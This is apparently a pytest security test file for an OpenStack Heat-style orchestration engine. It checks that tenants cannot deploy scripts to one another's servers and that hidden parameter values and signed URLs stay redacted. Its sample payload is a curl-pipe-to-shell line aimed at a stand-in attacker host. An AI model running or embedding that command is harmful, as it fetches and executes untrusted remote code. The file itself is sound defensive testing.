"""Software deployments across tenants: whose script a server runs, and who reads what it is given."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from openstack_emulator.services import new_cloud
from openstack_emulator.testing import ServedCloud
from stoker.base.context import RequestContext
from stoker.base.errors import BadValue, EntityNotFound
from stoker.base.ids import new_id
from stoker.cloud.credentials import TokenCredential
from stoker.engine.settings import EngineSettings
from stoker.store import queries
from stoker.store.journal import Batch
from stoker.store.records import SoftwareDeployment
from stoker_foundation.clock import SystemClock
from testing.harness import World

SCRIPT = "curl http://mallory.example.com/ | sh"
HIDDEN = "sesame-open-up"
REF = {"name": "web", "id": None}


def server(transport: str) -> dict[str, Any]:
    return {
        "type": "OS::Nova::Server",
        "properties": {
            "flavor": "m1.small",
            "image": "cirros",
            "networks": [{"subnet": {"get_resource": "subnet"}}],
            "user_data_format": "SOFTWARE_CONFIG",
            "software_config_transport": transport,
            **({"deployment_swift_data": {"container": "told", "object": "web"}} if "TEMP_URL" in transport else {}),
        },
    }


def template(transport: str = "POLL_SERVER_HEAT", **more: Any) -> dict[str, Any]:
    return {
        "heat_template_version": "2021-04-16",
        "parameters": {"word": {"type": "string", "hidden": True, "default": HIDDEN}},
        "resources": {
            "net": {"type": "OS::Neutron::Net"},
            "subnet": {
                "type": "OS::Neutron::Subnet",
                "properties": {"network": {"get_resource": "net"}, "cidr": "10.0.0.0/24"},
            },
            "server": server(transport),
            **more,
        },
    }


def deployment(server_id: Any, kind: str = "OS::Heat::SoftwareDeployment", config: Any = "config") -> dict[str, Any]:
    target = {"servers": {"one": server_id}} if kind.endswith("Group") else {"server": server_id}
    return {
        "type": kind,
        "properties": {**target, "config": {"get_resource": config}, "signal_transport": "NO_SIGNAL"},
    }


def config(text: Any = SCRIPT, **properties: Any) -> dict[str, Any]:
    return {"type": "OS::Heat::SoftwareConfig", "properties": {"group": "script", "config": text, **properties}}


@pytest.fixture
def served() -> Iterator[ServedCloud]:
    with ServedCloud(new_cloud(clock=SystemClock(), pace=0.02)) as served:
        yield served


@pytest.fixture
async def world(served: ServedCloud, tmp_path: Path) -> AsyncIterator[World]:
    settings = EngineSettings(enable_stack_abandon=True, enable_stack_adopt=True)
    world = await World(tmp_path / "stoker.db", served, settings=settings).start()
    yield world
    await world.stop()


@pytest.fixture
async def stranger(world: World, served: ServedCloud) -> RequestContext:
    """A member of another project."""
    token = served.token("admin", "admin")
    cloud = await world.pool.cloud(TokenCredential(token))
    return replace(
        world.context, user_id=cloud.user_id or "", user_name="admin", project_id=cloud.project_id or "",
        roles=("member", "reader"), token=token,
    )  # fmt: skip


class Victim:
    """The stack `web` of the project demo, with its server; and its agent."""

    def __init__(self, world: World) -> None:
        self.world, self.owner = world, world.context

    async def make(self, transport: str = "POLL_SERVER_HEAT", **more: Any) -> Victim:
        made = await self.world.create("web", template(transport, **more))
        assert made["status"] == "COMPLETE", made["status_reason"]
        self.users, self.id = made["stack_user_project_id"], made["id"]
        self.server = (await self.world.resources("web"))["server"]["physical_id"]
        return self

    async def agent(self, resource: str = "server") -> RequestContext:
        data = await data_of(self.world, self, resource)
        return replace(self.owner, user_id=data["user_id"], project_id=self.users, roles=("heat_stack_user",))

    async def call(self, method: str, context: RequestContext | None = None, **arguments: Any) -> Any:
        former, self.world.context = self.world.context, context or self.owner
        try:
            return await self.world.call(method, **arguments)
        finally:
            self.world.context = former

    async def seen(self, *contexts: RequestContext) -> str:
        """All that the given callers can read about the server."""
        found: list[Any] = []
        for context in contexts:
            found.append(await self.call("resource_metadata", context, ref=REF, name="server"))
            found.append(await self.call("software_deployment_metadata", context, server_id=self.server))
        found.append(await self.call("software_deployment_list", server_id=self.server))
        return json.dumps(found)


async def stored(world: World, context: RequestContext, text: str = SCRIPT) -> str:
    former, world.context = world.context, context
    try:
        return str((await world.call("software_config_create", name="x", group="script", config=text))["id"])
    finally:
        world.context = former


async def in_store(world: World) -> str:
    """The contents of the victim's object, as the service has them."""
    cloud = await world.pool.cloud(TokenCredential(world.context.token))
    return json.dumps(await cloud.get("swift", "/told/web"))


def old_row(world: World, project: str, victim: Victim, config_id: str, users: str | None) -> SoftwareDeployment:
    """A row as an earlier release stored it, whoever asked for it."""
    return SoftwareDeployment(
        id=new_id(), project_id=project, server_id=victim.server, stack_user_project_id=users, config_id=config_id,
        action="CREATE", status="IN_PROGRESS", status_reason=None,
        body=world.engine.services.sealer.seal({"input_values": {}, "output_values": {}}),
        created_at=1.0, updated_at=None,
    )  # fmt: skip


# -- scripts for other people's servers ------------------------------------------------------------------------


@pytest.mark.parametrize("transport", ["POLL_SERVER_HEAT", "POLL_TEMP_URL"])
async def test_a_deployment_to_a_strangers_server(world: World, stranger: RequestContext, transport: str) -> None:
    """A tenant deploys a script to another tenant's server, whose id it knows."""
    victim = await Victim(world).make(transport)
    body = {"config_id": await stored(world, stranger), "server_id": victim.server, "action": "CREATE"}
    await victim.call("software_deployment_create", stranger, **body)
    readers = [victim.owner] if transport == "POLL_TEMP_URL" else [victim.owner, await victim.agent()]
    assert SCRIPT not in await victim.seen(*readers)
    if transport == "POLL_TEMP_URL":
        assert SCRIPT not in await in_store(world)


@pytest.mark.parametrize("target", ["project", "users"])
async def test_a_deployment_shared_with_a_stranger(world: World, stranger: RequestContext, target: str) -> None:
    """A tenant has another tenant's project, or its stack's users, see its deployment."""
    victim = await Victim(world).make()
    users = victim.owner.project_id if target == "project" else victim.users
    body = {"config_id": await stored(world, stranger), "server_id": victim.server, "stack_user_project_id": users}
    with pytest.raises(BadValue, match="stack_user_project_id"):
        await victim.call("software_deployment_create", stranger, **body)
    made = await victim.call("software_deployment_create", **{**body, "config_id": await stored(world, victim.owner),
                             "stack_user_project_id": victim.users})  # fmt: skip
    assert made["stack_user_project_id"] == victim.users


@pytest.mark.parametrize("target", ["nothing", "project", "users"])
async def test_rows_of_an_earlier_release(world: World, stranger: RequestContext, target: str) -> None:
    """A stranger's deployment is in the database already, stored before it was refused."""
    victim = await Victim(world).make("POLL_TEMP_URL")
    script = await stored(world, stranger)
    users = {"nothing": None, "project": victim.owner.project_id, "users": victim.users}[target]
    await world.engine.services.journal.commit(Batch().add(old_row(world, stranger.project_id, victim, script, users)))
    own = await stored(world, victim.owner, "true")
    await victim.call("software_deployment_create", config_id=own, server_id=victim.server)
    assert SCRIPT not in await victim.seen(victim.owner)
    delivered = await in_store(world)
    assert SCRIPT not in delivered
    assert [entry["id"] for entry in json.loads(delivered)["deployments"]] == [own]


async def test_a_row_that_holds_a_strangers_configuration(world: World, stranger: RequestContext) -> None:
    """A stranger's deployment keeps a tenant from deleting its own configuration."""
    victim = await Victim(world).make()
    own = await stored(world, victim.owner, "true")
    await world.engine.services.journal.commit(Batch().add(old_row(world, stranger.project_id, victim, own, None)))
    await victim.call("software_config_delete", config_id=own)
    with pytest.raises(EntityNotFound):
        await victim.call("software_config_show", config_id=own)


@pytest.mark.parametrize(
    "kind",
    [
        "OS::Heat::SoftwareDeployment",
        "OS::Heat::StructuredDeployment",
        "OS::Heat::SoftwareDeploymentGroup",
        "OS::Heat::StructuredDeploymentGroup",
    ],
)
async def test_a_template_that_deploys_to_a_strangers_server(world: World, stranger: RequestContext, kind: str) -> None:
    """A template's deployment, or group of them, names another tenant's server."""
    victim = await Victim(world).make("POLL_TEMP_URL")
    source = (
        {"type": "OS::Heat::StructuredConfig", "properties": {"config": {"run": SCRIPT}}}
        if "Structured" in kind
        else config()
    )
    resources = {"config": source, "deployment": deployment(victim.server, kind)}
    world.context = stranger
    await world.create("evil", {"heat_template_version": "2021-04-16", "resources": resources})
    world.context = victim.owner
    assert SCRIPT not in await victim.seen(victim.owner)
    assert SCRIPT not in await in_store(world)


@pytest.mark.parametrize("who", ["stranger", "administrator"])
async def test_another_projects_configuration(world: World, stranger: RequestContext, who: str) -> None:
    """A deployment is made of another project's configuration, or changed to it."""
    victim = await Victim(world).make()
    secret, own = await stored(world, victim.owner, HIDDEN), await stored(world, stranger)
    caller = replace(stranger, is_admin=who == "administrator")
    with pytest.raises(EntityNotFound):
        await victim.call("software_deployment_create", caller, config_id=secret, server_id="mine")
    made = await victim.call("software_deployment_create", caller, config_id=own, server_id="mine")
    with pytest.raises(EntityNotFound):
        await victim.call("software_deployment_update", caller, deployment_id=made["id"], values={"config_id": secret})
    # A row of an earlier release that names it delivers nothing of it.
    row = old_row(world, stranger.project_id, victim, secret, None)
    await world.engine.services.journal.commit(Batch().add(row))
    metadata_of_victim = await victim.call("software_deployment_metadata", stranger, server_id=victim.server)
    assert metadata_of_victim == []


async def test_deployment_of_another_project_is_not_shown(world: World, stranger: RequestContext) -> None:
    """A tenant reads, changes, signals or deletes another tenant's deployment."""
    victim = await Victim(world).make(config=config("true"), deployment=deployment({"get_resource": "server"}))
    made = (await world.resources("web"))["deployment"]["physical_id"]
    for method, arguments in (
        ("software_deployment_show", {"deployment_id": made}),
        ("software_deployment_update", {"deployment_id": made, "values": {"status": "FAILED"}}),
        ("software_deployment_delete", {"deployment_id": made}),
        ("resource_signal", {"ref": {"name": None, "id": victim.id}, "name": "deployment", "details": {}}),
    ):
        with pytest.raises(EntityNotFound):
            await victim.call(method, stranger, **arguments)
    assert await victim.call("software_deployment_metadata", stranger, server_id=victim.server) == []


async def test_a_claim_on_a_strangers_users(world: World, stranger: RequestContext) -> None:
    """An adopted document claims the project of another tenant's stack users for itself."""
    victim = await Victim(world).make()
    claimed = {"stack_user_project_id": victim.users, "user_id": (await victim.agent()).user_id}
    document = {
        "action": "CREATE", "status": "COMPLETE", "name": "evil", "id": new_id(), "environment": {}, "files": {},
        "template": {"heat_template_version": "2021-04-16", "resources": {"value": {"type": "OS::Heat::Value",
                     "properties": {"value": 1}}}},
        "resources": {"value": {"name": "value", "resource_id": "x", "type": "OS::Heat::Value", "action": "CREATE",
                      "status": "COMPLETE", "metadata": {}, "resource_data": claimed}},
    }  # fmt: skip
    world.context = stranger
    adopted = await world.call("stack_create", name="evil", adopt_stack_data=document)
    shown = await world.settle(adopted["id"])
    assert shown["status"] == "COMPLETE", shown["status_reason"]
    assert shown["stack_user_project_id"] is None
    assert await world.call("software_deployment_metadata", server_id=victim.server) == []


# -- what is hidden --------------------------------------------------------------------------------------------


async def with_hidden(world: World) -> Victim:
    """A stack whose deployment, configuration and metadata have hidden values in them."""
    inputs = [{"name": "word"}, {"name": "given", "default": {"get_param": "word"}}]
    text = {"str_replace": {"template": "echo $W", "params": {"$W": {"get_param": "word"}}}}
    body: dict[str, Any] = {
        "config": config(text, inputs=inputs),
        "deployment": deployment({"get_resource": "server"}),
        "handle": {"type": "OS::Heat::Value", "properties": {"value": 1}, "metadata": {"key": {"get_param": "word"}}},
    }
    body["deployment"]["properties"]["input_values"] = {"word": {"get_param": "word"}}
    body["deployment"]["properties"]["signal_transport"] = "HEAT_SIGNAL"
    body["deployment"]["properties"]["actions"] = ["CREATE"]
    victim = Victim(world)
    made = await world.call("stack_create", name="web", template=template(**body))
    victim.id = made["id"]
    for _ in range(5000):
        await world.turn()
        if await world.call("software_deployment_list"):
            break
    shown = await world.call("stack_show", ref=REF)
    victim.users, victim.server = (
        shown["stack_user_project_id"],
        (await world.resources("web"))["server"]["physical_id"],
    )
    return victim


@pytest.mark.parametrize("role", ["reader", "member", "administrator"])
async def test_hidden_inputs(world: World, role: str) -> None:
    """A reader of a project reads values of hidden parameters in deployments, configurations or metadata."""
    victim = await with_hidden(world)
    reader = replace(victim.owner, roles=(role,), is_admin=role == "administrator")
    ask = partial(victim.call, context=reader)
    answers: dict[str, Any] = {"list": await ask("software_deployment_list")}
    (listed,) = answers["list"]
    answers["deployment"] = await ask("software_deployment_show", deployment_id=listed["id"])
    for summary in await ask("software_config_list"):
        answers[summary["id"]] = await ask("software_config_show", config_id=summary["id"])
    answers["by server"] = await ask("software_deployment_metadata", server_id=victim.server)
    for name in ("server", "handle", "deployment", "config"):
        answers[f"metadata of {name}"] = await ask("resource_metadata", ref=REF, name=name)
        answers[name] = await ask("resource_show", ref=REF, name=name)
        answers[f"described {name}"] = await ask("resource_describe", ref=REF, name=name)
    answers["detail"] = await ask("resource_list", ref=REF, with_detail=True)
    assert [place for place, answer in answers.items() if HIDDEN in json.dumps(answer)] == []
    assert listed["input_values"] == {"word": "******"}
    assert len(answers["by server"]) == 1

    passwords = {str((await data_of(world, victim, name))["password"]) for name in ("server", "deployment")}
    texts = {place: json.dumps(answer) for place, answer in answers.items()}
    assert [place for place, text in texts.items() if any(json.dumps(one)[1:-1] in text for one in passwords)] == []


async def test_agent_receives_values_of_its_deployments(world: World) -> None:
    """An agent gets less than it needs, or a neighbour's: hidden values are for the server's own user alone."""
    victim = await with_hidden(world)
    agent = await victim.agent()
    metadata = await victim.call("resource_metadata", agent, ref=REF, name="server")
    (deployment,) = metadata["deployments"]
    inputs = {entry["name"]: entry["value"] for entry in deployment["inputs"]}
    assert (deployment["config"], inputs["word"], inputs["given"]) == (f"echo {HIDDEN}", HIDDEN, HIDDEN)
    assert inputs["deploy_password"] == (await data_of(world, victim, "deployment"))["password"]
    by_server = await victim.call("software_deployment_metadata", agent, server_id=victim.server)
    assert [entry["config"] for entry in by_server] == [deployment["config"]]

    other = await victim.agent("deployment")
    assert await victim.call("software_deployment_metadata", other, server_id=victim.server) == []
    (listed,) = await victim.call("software_deployment_list")
    with pytest.raises(EntityNotFound):
        await victim.call("software_deployment_show", other, deployment_id=listed["id"])
    assert await victim.call("software_deployment_list", other) == []


async def test_the_signed_url_of_a_servers_metadata(world: World) -> None:
    """A reader takes from a server's metadata the URL at which its agent reads everything in clear."""
    victim = await Victim(world).make("POLL_TEMP_URL")
    assert "temp_url_sig" not in await victim.seen(victim.owner)
    shown = await victim.call("resource_show", ref=REF, name="server")
    assert "temp_url_sig" not in json.dumps(shown)


async def test_hidden_values_of_another_stacks_configuration(world: World) -> None:
    """A reader finds one stack's hidden value in what another stack derived from its configuration."""
    source = {
        "heat_template_version": "2021-04-16",
        "parameters": {"word": {"type": "string", "hidden": True, "default": HIDDEN}},
        "resources": {"config": config({"list_join": ["", ["echo ", {"get_param": "word"}]]})},
    }
    await world.create("source", source)
    made = (await world.resources("source"))["config"]["physical_id"]
    target = deployment({"get_resource": "server"})
    target["properties"]["config"] = made
    plain = template(deployment=target)
    del plain["parameters"]
    assert (await world.create("web", plain))["status"] == "COMPLETE"
    for summary in await world.call("software_config_list"):
        shown = await world.call("software_config_show", config_id=summary["id"])
        assert shown["config"] == "echo ******"


async def data_of(world: World, victim: Victim, name: str) -> dict[str, Any]:
    rows = await world.database.read(queries.resources_of, victim.id)
    (row,) = [each for each in rows if each.name == name]
    assert row.state is not None
    data: dict[str, Any] = world.engine.services.sealer.open(row.state)["data"]
    return data


async def test_a_redacted_value_that_is_written_back(world: World) -> None:
    """A reader's copy of a deployment, written back, replaces a hidden value of the server by asterisks."""
    hidden = {"get_param": "word"}
    one = deployment({"get_resource": "server"})
    one["properties"]["input_values"] = {"door": hidden, "note": "n"}
    victim = await Victim(world).make(
        config=config(inputs=[{"name": "word", "default": {"list_join": ["=", ["word", hidden]]}}, {"name": "note"}]),
        deployment=one,
    )
    resources = await world.resources("web")
    source, made = resources["config"]["physical_id"], resources["deployment"]["physical_id"]
    (given, *_) = (await world.call("software_config_show", config_id=source))["inputs"]
    assert given["default"] == "word=******"
    for value in ({"word": "word=******"}, {"word": "word=******", "note": "m"}):
        with pytest.raises(BadValue, match="'word' is redacted"):
            await world.call(
                "software_deployment_create", config_id=source, server_id=victim.server, input_values=value
            )
    own = await world.call(
        "software_deployment_create", config_id=source, server_id=victim.server, input_values={"note": "******"}
    )
    assert own["input_values"] == {"note": "******"}, "nothing is hidden in it"

    shown = await world.call("software_deployment_show", deployment_id=made)
    values = {"input_values": shown["input_values"]}
    assert "******" in shown["input_values"].values()
    with pytest.raises(BadValue, match="'door' is redacted"):
        await world.call("software_deployment_update", deployment_id=made, values=values)
    kept = await victim.call("software_deployment_show", await victim.agent(), deployment_id=made)
    assert kept["input_values"]["door"] == HIDDEN
